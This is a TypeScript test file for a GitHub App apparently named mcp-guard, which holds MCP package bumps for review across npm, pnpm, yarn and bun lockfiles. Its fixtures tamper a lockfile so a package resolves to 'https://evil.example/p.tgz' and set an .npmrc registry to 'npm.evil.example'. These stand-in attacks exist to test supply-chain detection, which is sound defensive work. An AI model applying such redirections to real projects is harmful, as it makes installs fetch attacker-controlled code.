/**
 * The same pull-request scenarios in every lockfile format, on lockfiles the real tools wrote
 * (fixtures/lockfiles, made by scripts/build-lockfiles.ts): an MCP bump is reviewed and held, an
 * approval clears it, a non-MCP bump passes, a tampered source fails with the reason, and a
 * package.json bump whose lockfile was not updated (Dependabot on bun) fails.
 */
import assert from "node:assert/strict";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { describe, it } from "node:test";
import { FIXTURES, fixtureIntegrity } from "../helpers/fixtures.js";
import {
  ALICE_REVIEWS,
  dropMocksOfStepsNotReached,
  HEAD,
  mockPullRequestRun,
  OUR_APP,
  prPayload,
  type Scenario,
} from "../helpers/github.js";
import { appUnderTest } from "../helpers/probot.js";

const ROOT = join(FIXTURES, "lockfiles");
type Files = Record<string, string>;

function filesOf(dir: string): Files {
  const out: Files = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else out[relative(dir, p).split("\\").join("/")] = readFileSync(p, "utf8");
    }
  };
  walk(dir);
  return out;
}

/** The paths whose text differs between two commits. */
const changed = (a: Files, b: Files) =>
  [...new Set([...Object.keys(a), ...Object.keys(b)])].filter((p) => a[p] !== b[p]).sort();

const LOCKFILE: Record<string, string> = {
  npm: "package-lock.json",
  pnpm8: "pnpm-lock.yaml",
  pnpm9: "pnpm-lock.yaml",
  pnpm10: "pnpm-lock.yaml",
  pnpm11: "pnpm-lock.yaml",
  yarn1: "yarn.lock",
  berry: "yarn.lock",
  bun: "bun.lock",
};

/**
 * A lockfile that points postmark-mcp 1.0.16 at other bytes: another tarball's integrity where the
 * format records one, another source where it does not (berry).
 */
function tamper(tool: string, text: string): string {
  if (tool === "berry") {
    const out = text.replace(
      'resolution: "postmark-mcp@npm:1.0.16"',
      'resolution: "postmark-mcp@https://evil.example/p.tgz"',
    );
    assert.notEqual(out, text, "the berry fixture has the resolution to tamper with");
    return out;
  }
  const out = text
    .split(fixtureIntegrity("postmark-mcp", "1.0.16"))
    .join(fixtureIntegrity("postmark-mcp", "1.0.17"));
  assert.notEqual(out, text, `the ${tool} fixture pins postmark-mcp 1.0.16's integrity`);
  return out;
}

/**
 * The base's lockfile with postmark-mcp's own entry removed, every record of the workspace's spec
 * left as it was: the manager resolves postmark-mcp afresh (the newest version), and nothing in the
 * lockfile's entries shows a new version.
 */
function removeEntry(tool: string, text: string): string {
  const out =
    tool === "npm"
      ? JSON.stringify(
          Object.assign(JSON.parse(text), {
            packages: Object.fromEntries(
              Object.entries(JSON.parse(text).packages).filter(([k]) => k !== "node_modules/postmark-mcp"),
            ),
          }),
        )
      : tool === "bun"
        ? text.replace(/\n {4}"postmark-mcp": \[.*\],\n/, "\n")
        : tool === "yarn1"
          ? text.replace(/\npostmark-mcp@1\.0\.15:\n(?: {2}.*\n)+/, "\n")
          : tool === "berry"
            ? text.replace(/\n"postmark-mcp@npm:1\.0\.15":\n(?: {2}.*\n)+/, "\n")
            : text.replace(/\n {2}\/?postmark-mcp@1\.0\.15:\n(?: {4}.*\n)+/, "\n");
  assert.notEqual(out, text, `the ${tool} fixture has postmark-mcp's entry`);
  return out;
}

const approval = {
  id: 1,
  user: { login: "alice", type: "User" },
  state: "APPROVED",
  commit_id: HEAD,
  submitted_at: "2026-11-23T10:00:00Z",
  body: "",
  html_url: "u",
};

/** Our check run on HEAD as GitHub lists it, completed with `done` (a PATCH body) before the approval. */
// biome-ignore lint/suspicious/noExplicitAny: the request body as GitHub received it
const shownRun = (done: any) => ({
  id: 10,
  app: OUR_APP,
  name: "mcp-guard",
  head_sha: HEAD,
  status: "completed",
  conclusion: done.conclusion,
  started_at: "2026-11-23T09:58:00Z",
  completed_at: "2026-11-23T09:59:00Z",
  output: done.output,
});

describe("the GitHub App in every lockfile format", () => {
  const t = appUnderTest();

  async function run(
    base: Files,
    head: Files,
    extra: Partial<Scenario> & { expectReview: boolean },
    action = "synchronize",
  ) {
    const { writes } = mockPullRequestRun({
      files: changed(base, head),
      base,
      head,
      config: ALICE_REVIEWS,
      ...extra,
    });
    await t.probot.receive({ id: "1", name: "pull_request", payload: prPayload(action) as never });
    await t.deps.queue.idle();
    assert.deepEqual(t.unmatched, [], "every GitHub call was expected");
    return writes;
  }

  const projects = Object.keys(LOCKFILE).flatMap((tool) =>
    readdirSync(join(ROOT, tool)).map((kind) => ({ tool, kind, dir: join(ROOT, tool, kind) })),
  );

  it("has fixtures of every format, a monorepo of each, and pnpm 11's two-document lockfile", () => {
    assert.equal(projects.filter((p) => p.kind === "monorepo").length, Object.keys(LOCKFILE).length);
    const env = filesOf(join(ROOT, "pnpm11", "env", "bump"))["pnpm-lock.yaml"]!;
    assert.equal(env.match(/^---$/gm)?.length, 2, "two YAML documents");
    const v6 = filesOf(join(ROOT, "pnpm8", "single", "bump"))["pnpm-lock.yaml"]!;
    assert.match(v6, /^lockfileVersion: '6\.0'/m);
  });

  for (const { tool, kind, dir } of projects) {
    const state = (s: string) => filesOf(join(dir, s));
    const lock = LOCKFILE[tool]!;
    describe(`${tool} ${kind}`, () => {
      it("an MCP bump is reviewed and held for the reviewer", async () => {
        const w = await run(state("base"), state("bump"), { expectReview: true, expectRequest: true });
        assert.equal(w.done.conclusion, "action_required");
        assert.match(w.review.body, /postmark-mcp 1\.0\.15 → 1\.0\.16/);
        assert.deepEqual(t.deps.analysed, ["postmark-mcp@1.0.15→1.0.16"]);
      });

      it("the designated reviewer's approval clears it", async () => {
        // 1. The bump is analysed and held: the check shows its change set.
        const shown = await run(state("base"), state("bump"), { expectReview: true, expectRequest: true });
        assert.equal(shown.done.conclusion, "action_required");
        // 2. Alice approves after that result was shown; the pull request is analysed afresh (reopened),
        //    and her approval binds to the change set this format's lockfile brings.
        const w = await run(
          state("base"),
          state("bump"),
          {
            expectReview: true,
            expectRequest: true,
            reviews: [approval],
            permissions: { alice: "write" },
            rerun: true,
            history: [shownRun(shown.done)],
          },
          "reopened",
        );
        assert.equal(w.done.conclusion, "success");
        assert.match(w.done.output.title, /^Approved by @alice for postmark-mcp 1\.0\.15 → 1\.0\.16/);
      });

      it("a non-MCP bump passes", async () => {
        const w = await run(state("bump"), state("zod"), { expectReview: false });
        assert.equal(w.done.conclusion, "success");
        assert.equal(w.done.output.title, "No MCP package changes");
        assert.deepEqual(t.deps.analysed, []);
      });

      it("a tampered source fails with the reason", async () => {
        const head = state("bump");
        const lockPath = Object.keys(head).find((p) => p.endsWith(lock) && !p.includes("/"))!;
        head[lockPath] = tamper(tool, head[lockPath]!);
        const w = await run(state("base"), head, { expectReview: false });
        dropMocksOfStepsNotReached(w.done);
        assert.equal(w.done.conclusion, "failure");
        assert.match(w.done.output.summary, /do not install what the registry serves: .*postmark-mcp/);
        assert.deepEqual(t.deps.analysed, []);
      });

      it("a lockfile entry removed under a package.json the pull request does not touch fails: re-resolved", async () => {
        const base = state("base");
        const head = { ...base };
        for (const p of Object.keys(head)) if (p.endsWith(lock)) head[p] = removeEntry(tool, base[p]!);
        const w = await run(base, head, { expectReview: false });
        dropMocksOfStepsNotReached(w.done);
        assert.equal(w.done.conclusion, "failure");
        assert.match(w.done.output.summary, /postmark-mcp will be re-resolved: .*asks for postmark-mcp@/);
        assert.deepEqual(t.deps.analysed, []);
      });

      it("a package-manager settings change beside the MCP packages is held for the reviewer", async () => {
        const base = state("base");
        const head = { ...base, ".npmrc": "registry=https://npm.evil.example/\n" };
        const w = await run(base, head, { expectReview: true, expectRequest: true });
        assert.equal(w.done.conclusion, "action_required");
        assert.match(w.review.body, /install-source-settings/);
        assert.match(w.review.body, /npm\[\.\]evil\[\.\]example|npm\.evil\.example/);
        assert.deepEqual(t.deps.analysed, []);
      });

      it("a package.json bump whose lockfile was not updated fails", async () => {
        // The bump's manifests (and pnpm's catalog) with the base's lockfile, as Dependabot leaves a bun repo.
        const base = state("base");
        const head = { ...state("bump") };
        for (const p of Object.keys(head)) if (p.endsWith(lock)) head[p] = base[p]!;
        const w = await run(base, head, { expectReview: false });
        dropMocksOfStepsNotReached(w.done);
        assert.equal(w.done.conclusion, "failure");
        assert.match(
          w.done.output.summary,
          /(?:lockfile not updated|will be re-resolved): .*postmark-mcp@(?:&#8203;)?1\.0\.16/,
        );
        assert.deepEqual(t.deps.analysed, []);
      });
    });
  }
});
